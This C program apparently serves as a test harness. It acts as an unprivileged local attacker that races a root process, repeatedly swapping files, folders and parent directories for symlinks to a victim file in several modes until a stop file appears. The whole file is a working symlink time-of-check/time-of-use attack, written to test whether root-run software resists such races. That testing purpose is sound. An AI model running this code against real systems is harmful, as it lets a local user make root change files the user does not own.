/* A local user without rights, who tries to make root work on a file of root's: attacker MODE FOLDER NAME VICTIM.
   given     exchanges what root gives away below FOLDER for a link to VICTIM, as soon as it can
   file      makes NAME in turns a file with the expected content and a link to VICTIM
   folder    makes NAME in turns a folder and a link to VICTIM
   planted   keeps a link to VICTIM at NAME.hacore-old
   ancestor  exchanges FOLDER/NAME, a folder, for a link to VICTIM's folder and back
   Ends when FOLDER/../stop exists. */
#include <dirent.h>
#include <fcntl.h>
#include <libgen.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void given(const char *folder, const char *victim) {
  char path[1024], away[1100];
  struct stat seen;
  struct dirent *entry;
  DIR *all = opendir(folder);
  if (!all) return;
  while ((entry = readdir(all))) {
    snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
    if (entry->d_name[0] == '.' && (!entry->d_name[1] || entry->d_name[1] == '.')) continue;
    if (lstat(path, &seen) || S_ISLNK(seen.st_mode)) continue;
    for (int n = 0; n < 20000 && seen.st_uid != getuid() && !lstat(path, &seen); n++) {}
    if (seen.st_uid != getuid()) continue;
    snprintf(away, sizeof away, "%s.away", path);
    if (!rename(path, away)) symlink(victim, path);
  }
  closedir(all);
}

int main(int count, char **word) {
  if (count != 5) return 2;
  const char *mode = word[1], *folder = word[2], *victim = word[4];
  char path[1024], stop[1024], away[1100], copy[1024], old[1100];
  snprintf(path, sizeof path, "%s/%s", folder, word[3]);
  snprintf(stop, sizeof stop, "%s/../stop", folder);
  snprintf(away, sizeof away, "%s.away", path);
  snprintf(copy, sizeof copy, "%s", victim);
  snprintf(old, sizeof old, "%s.hacore-old", path);
  umask(0);
  puts("ready");
  fflush(stdout);
  while (access(stop, F_OK)) {
    if (!strcmp(mode, "given")) given(folder, victim);
    else if (!strcmp(mode, "planted")) {
      symlink(victim, old);
      usleep(100);
    } else if (!strcmp(mode, "ancestor")) {
      if (!rename(path, away)) symlink(dirname(copy), path);
      snprintf(copy, sizeof copy, "%s", victim);
      unlink(path);
      rename(away, path);
    } else {
      if (!strcmp(mode, "folder")) mkdir(path, 0777);
      else {
        int made = open(path, O_CREAT | O_EXCL | O_WRONLY, 0666);
        if (made >= 0) { write(made, "same", 4); close(made); }
      }
      usleep(random() % 3000);
      rmdir(path);
      unlink(path);
      symlink(victim, path);
      usleep(random() % 3000);
      unlink(path);
      usleep(random() % 5000); /* nothing: the first check has nothing to refuse */
    }
  }
  return 0;
}
